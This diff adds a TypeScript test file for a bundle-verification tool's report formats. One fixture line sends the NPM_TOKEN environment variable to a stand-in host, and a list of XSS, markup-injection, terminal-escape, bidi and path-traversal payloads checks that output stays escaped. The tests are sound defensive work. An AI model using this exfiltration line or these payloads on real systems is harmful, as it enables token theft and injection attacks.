@@ -1,0 +1,134 @@
+import { parse, type DefaultTreeAdapterTypes } from 'parse5';
+import { describe, expect, test } from 'vitest';
+import { FORMATS } from '../../src/report/formats.ts';
+import { renderSarif } from '../../src/report/sarif.ts';
+import { divergedDocument, hostileDocument } from '../support/documents.ts';
+
+const OPTIONS = { color: false, width: 100 };
+const PAYLOAD = "require('https').get('https://collect.example/'+process.env.NPM_TOKEN);";
+
+describe('a statement in a bundle', () => {
+  test.each(['text', 'markdown'] as const)('is shown as %s', async (format) => {
+    const shown = FORMATS[format](divergedDocument(), OPTIONS);
+    await expect(shown).toMatchFileSnapshot(`snapshots/diverged-${format}.txt`);
+    expect(shown).toContain(PAYLOAD);
+    expect(shown).toContain('talks to the network');
+  });
+
+  test('is shown on the page, with what it can do before everything else', () => {
+    const page = FORMATS.html(divergedDocument(), OPTIONS);
+    const texts = textsOf(parse(page));
+    expect(texts).toContain(PAYLOAD);
+    expect(texts.indexOf('talks to the network')).toBeLessThan(texts.indexOf('Findings'));
+  });
+
+  test('is a result of SARIF, at its line', () => {
+    const [run] = renderSarif(divergedDocument()).runs;
+    expect(run?.results?.[0]).toMatchObject({
+      ruleId: 'file-changed',
+      level: 'error',
+      locations: [
+        { physicalLocation: { artifactLocation: { uri: 'dist/bundle.js' }, region: { startLine: 1 } } },
+      ],
+    });
+    const rules = run?.tool.driver.rules?.map(({ id }) => id) ?? [];
+    expect(run?.results?.every(({ ruleId }) => rules.includes(ruleId ?? ''))).toBe(true);
+  });
+
+  test('is in the JSON document', () => {
+    expect(JSON.parse(FORMATS.json(divergedDocument(), OPTIONS))).toEqual(divergedDocument());
+  });
+});
+
+test('what cannot be verified is a result of SARIF as well', () => {
+  const reason = { code: 'no-repository', message: 'It names none.' } as const;
+  const document = divergedDocument({ verdict: 'unverifiable', reason, findings: [], signals: [] });
+  expect(renderSarif(document).runs[0]?.results).toMatchObject([
+    { ruleId: 'unverifiable/no-repository', level: 'note' },
+  ]);
+});
+
+const HOSTILE = [
+  ['a script', '<script>alert(1)</script>'],
+  ['the end of the style', '</style><script>alert(1)</script>'],
+  ['an attribute', '" onmouseover="alert(1)" x=\''],
+  ['an image', '<img src=https://collect.example/ onerror=alert(1)>'],
+  ['a comment', '--><!--<b>'],
+  ['an entity', '&lt;b&gt;&#60;'],
+  ['a title', '</title><h1>reproduced</h1>'],
+  ['a link of Markdown', '[click](https://collect.example/) ![x](https://collect.example/x.png)'],
+  ['a mention', 'thanks @everyone, see #1 and https://collect.example/'],
+  ['the end of a fence', '```\n# reproduced\n````'],
+  ['the end of a span', '`` ` **bold** `'],
+  ['a table', 'a | b\n| --- | --- |'],
+  ['an HTML block', '\n\n<details open><summary>reproduced</summary>'],
+  ['a terminal escape', '\u001b[2J\u001b]0;x\u0007'],
+  ['a bidi override', '\u202ereproduced\u2066'],
+  ['a lone surrogate', '\ud800'],
+  ['a path upwards', '../../etc/passwd'],
+  ['a script address', 'javascript:alert(1)//https://github.com/'],
+] as const;
+
+describe('attack: names, contents and messages that hold', () => {
+  test.each(HOSTILE)('%s stay text on the page', (_, text) => {
+    const page = parse(FORMATS.html(hostileDocument(text), OPTIONS));
+    const elements = elementsOf(page);
+    expect(elements.map(({ tagName }) => tagName).filter((name) => !ALLOWED.has(name))).toEqual([]);
+    const attributes = elements.flatMap(({ attrs }) => attrs.map(({ name }) => name));
+    expect(attributes.filter((name) => name.startsWith('on') || name === 'src')).toEqual([]);
+    expect(elements.filter(({ tagName }) => tagName === 'a')).toEqual([]);
+    expect(elements.filter(({ tagName }) => tagName === 'h1').length).toBe(1);
+  });
+
+  test.each(HOSTILE)('%s are no control characters of the terminal or the page', (_, text) => {
+    for (const format of ['text', 'markdown', 'html'] as const) {
+      expect(FORMATS[format](hostileDocument(text), OPTIONS)).not.toMatch(
+        /[\u0000-\u0009\u000b-\u001f\u202a-\u202e\u2066-\u2069]/,
+      );
+    }
+  });
+
+  test.each(HOSTILE)('%s stay text in Markdown', (_, text) => {
+    const shown = withoutCode(FORMATS.markdown(hostileDocument(text), OPTIONS));
+    expect(shown).not.toMatch(/(?<!\\)[[\]<>]|@\w|https?:\/\//);
+    expect(shown.match(/^#+ /gm)?.length).toBe(1);
+  });
+
+  test.each(HOSTILE)('%s stay in their place in SARIF', (_, text) => {
+    const log = renderSarif(hostileDocument(text));
+    const uris = log.runs[0]?.results?.map(
+      (one) => one.locations?.[0]?.physicalLocation?.artifactLocation?.uri,
+    );
+    expect(uris?.every((uri) => uri !== undefined && !/(?:^|\/)\.\.?(?:\/|$)|^\w+:|^\/\//.test(uri))).toBe(
+      true,
+    );
+  });
+});
+
+const ALLOWED: ReadonlySet<string> = new Set(
+  'html head meta title style body header footer section article h1 h2 h3 p ul ol li b code pre span table thead tbody tr th td details summary a'.split(
+    ' ',
+  ),
+);
+
+type Node = DefaultTreeAdapterTypes.Node;
+type Element = DefaultTreeAdapterTypes.Element;
+
+function elementsOf(node: Node): readonly Element[] {
+  const children = 'childNodes' in node ? node.childNodes : [];
+  return [...('tagName' in node ? [node] : []), ...children.flatMap((one) => elementsOf(one))];
+}
+
+function textsOf(node: Node): readonly string[] {
+  if (node.nodeName === '#text') return [(node as DefaultTreeAdapterTypes.TextNode).value];
+  return 'childNodes' in node ? node.childNodes.flatMap((one) => textsOf(one)) : [];
+}
+
+/** Markdown without its code spans and fenced blocks. */
+function withoutCode(markdown: string): string {
+  return markdown
+    .replace('<details><summary>How it was verified</summary>', '')
+    .replace('</details>', '')
+    .replaceAll(/^ *(`{3,})diff\n[\s\S]*?\n *\1$/gm, '')
+    .replaceAll(/(?<!`)(`+)(?!`)[^\n]*?[^`](\1)(?!`)/g, '');
+}
